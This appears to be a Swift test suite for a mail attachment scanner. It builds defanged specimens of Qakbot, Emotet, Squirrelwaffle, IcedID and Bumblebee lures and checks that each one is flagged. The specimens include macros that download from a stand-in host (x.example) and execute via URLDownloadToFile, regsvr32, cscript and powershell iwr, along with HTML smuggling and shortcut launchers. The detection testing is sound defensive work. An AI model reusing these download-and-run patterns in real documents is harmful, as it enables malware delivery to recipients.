import MailModel
import MailTestSupport
import Testing

@testable import AttachmentInspection

/// The attachments of campaigns that answered stolen conversations, rebuilt without anything that could harm.
@Suite struct CampaignTests {
  private static let downloads =
    "Private Declare PtrSafe Function URLDownloadToFile Lib \"urlmon\" Alias \"URLDownloadToFileA\" (ByVal a As Long) As Long\n"

  private static func word(_ source: String) -> [UInt8] {
    let project = VBABuilder.project([("ThisDocument", source.split(separator: "\n").joined(separator: "\r\n"))])
    return PackageBuilder.package(
      main: "word/document.xml", type: PackageBuilder.wordType, rels: [("r1", "vbaProject", "seven.png", nil)],
      parts: [("word/seven.png", project)])
  }

  private static let sheet = Specimen.link([
    "IF(GET.WORKSPACE(13)<770,CLOSE(FALSE),)", "SET.NAME(\"u\",\"ht\"&\"tp://x.example/\"&CHAR(97))",
    "REGISTER(\"urlmon\",\"URLDownload\"&\"ToFileA\",\"JJCCJJ\",\"Dl\",,1,9)", "Dl(0,u,\"..\\a.ocx\",0,0)",
    "EXEC(\"regsvr\"&\"32 -s ..\\a.ocx\")", "HALT()",
  ]).bytes

  static let attachments: [(String, Specimen.Document)] = [
    (
      "Squirrelwaffle, Word",
      .init(
        word(
          downloads
            + "Sub AutoOpen()\nu = StrReverse(\"exe.a/elpmaxe.x//:ptth\")\nURLDownloadToFile 0, u, p\nShell \"cscript \" & p\nEnd Sub"
        ), name: "diagram-7.doc")
    ),
    ("Squirrelwaffle and Qakbot, Excel", .init(sheet, name: "diagram-7.slk")),
    (
      "Qakbot, hidden macrosheet",
      .init(
        BIFFBuilder(
          state: 2, builtInName: 1,
          formulas: [
            BIFFBuilder.text("urlmon") + BIFFBuilder.text("URLDownloadToFileA") + BIFFBuilder.text("JJCCJJ")
              + BIFFBuilder.number(0) + BIFFBuilder.text("http://x.example/a") + BIFFBuilder.text("a")
              + BIFFBuilder.number(0) + BIFFBuilder.number(0) + BIFFBuilder.call(150, 8),
            BIFFBuilder.text("regsvr32 a") + BIFFBuilder.call(110, 1),
          ]
        ).workbook(), name: "claim.xls")
    ),
    (
      "Emotet, archive with the password in the mail",
      .init(Samples.encryptedZip("form.slk", sheet, password: "U523"), name: "form.zip", passwords: ["U523"])
    ),
    (
      "Emotet, workbook that opens without asking",
      .init(EncryptedDocuments.workbook(password: "VelvetSweatshop"), name: "report.xls")
    ),
    (
      "Emotet, shortcut",
      .init(Samples.shortcut("..\\Windows\\System32\\cmd.exe", "/v:on /c findstr x & wscript a.vbs"), name: "form.lnk")
    ),
    (
      "IcedID, archive whose content stays closed",
      .init(Samples.encryptedZip("request.js", Array("var x".utf8), password: "q8#kT"), name: "request.zip")
    ),
    (
      "Bumblebee, image with a shortcut",
      .init(
        Samples.image("DOC.LNK;1", Samples.shortcut("..\\rundll32.exe", "a.dll,start"), isHidden: false),
        name: "documents.iso")
    ),
    (
      "Qakbot, page that builds an archive",
      .init(
        Array(
          "<html><body><script>var b=atob('\(Samples.base64(ZipBuilder([("a.iso", Samples.image("A.LNK;1", Samples.shortcut("..\\cmd.exe", "/c x")))]).build()))');var u=new Uint8Array(1);var f=new Blob([u]);a.href=URL.createObjectURL(f);a.download='report.zip';a.click()</script></body></html>"
            .utf8), name: "report.html")
    ),
    (
      "Qakbot, OneNote",
      .init(
        Samples.section(
          Array("<html><hta:application/><script>x=new ActiveXObject('WScript.Shell')</script></html>".utf8)),
        name: "note.one")
    ),
    (
      "Qakbot, script in an archive",
      .init(
        ZipBuilder(texts: [
          (
            "doc.wsf",
            "<job><script language=\"JScript\">var x=new ActiveXObject('WScript.Shell');x.Run('powershell iwr')</script></job>"
          )
        ]).build(), name: "doc.zip")
    ),
  ]

  @Test(arguments: attachments.indices)
  func everyOneIsAnAlarm(index: Int) {
    let (campaign, document) = Self.attachments[index]
    let verdict = document.verdict
    #expect(verdict.level >= .high, "\(campaign): \(verdict.score) \(verdict.techniques.map(\.id))")
  }

  @Test func whatTheMacrosPutTogetherIsShown() {
    #expect(Self.attachments[0].1.verdict.urls.contains("http://x.example/a.exe"))
    #expect(Self.attachments[1].1.verdict.urls.contains("http://x.example/a"))
  }
}
